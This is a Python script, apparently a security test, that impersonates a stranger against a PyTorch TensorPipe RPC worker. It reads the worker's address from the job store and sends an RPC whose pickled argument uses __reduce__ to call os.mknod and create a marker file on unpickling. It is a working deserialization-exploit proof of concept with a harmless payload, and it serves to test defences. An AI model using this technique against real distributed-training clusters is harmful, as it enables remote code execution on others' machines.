"""A stranger that found a worker's TensorPipe address and sends it an RPC.

It joins no rendezvous: it reads the worker's address from the job's store
(readable by anyone who reaches the port; signed, not secret), builds a
TensorPipe agent of its own whose address book it writes itself, and calls
the worker with an argument that, once unpickled, would create MARKER.
Prints what came back and exits.

    python rogue_rpc.py MASTER_PORT WORKER_NAME MARKER
"""

from __future__ import annotations

import os
import sys
from datetime import timedelta

import torch.distributed as dist
import torch.distributed.rpc as rpc
from torch.distributed import autograd
from torch.distributed.rpc import api

# A signed store value: 32-byte HMAC and 16-byte nonce, then the plain value.
_SEAL = 48


class Payload:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        return (os.mknod, (self.path,))


def main() -> None:
    port, victim, marker = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=20))
    address = bytes(store.get(f"rpc/rpc_prefix_0/addrs/{victim}"))[_SEAL:]
    print(f"rogue: {victim} listens at {address.decode()}", flush=True)
    book = dist.HashStore()
    book.set("names/1", victim)
    book.set("addrs/" + victim, address)
    options = rpc.TensorPipeRpcBackendOptions(
        rpc_timeout=20, _transports=["uv"], _channels=["basic"]
    )
    agent = rpc.TensorPipeAgent(book, "rogue", 0, 2, options, {}, [])
    autograd._init(0)
    api._init_rpc_states(agent)
    try:
        answer = rpc.rpc_sync(victim, len, args=(Payload(marker),))
        print(f"rogue: the call returned {answer!r}", flush=True)
    except Exception as exc:
        print(f"rogue: the call failed: {type(exc).__name__}: {exc}", flush=True)
    os._exit(0)  # no graceful shutdown: the victim never agreed to a gang with us


if __name__ == "__main__":
    main()
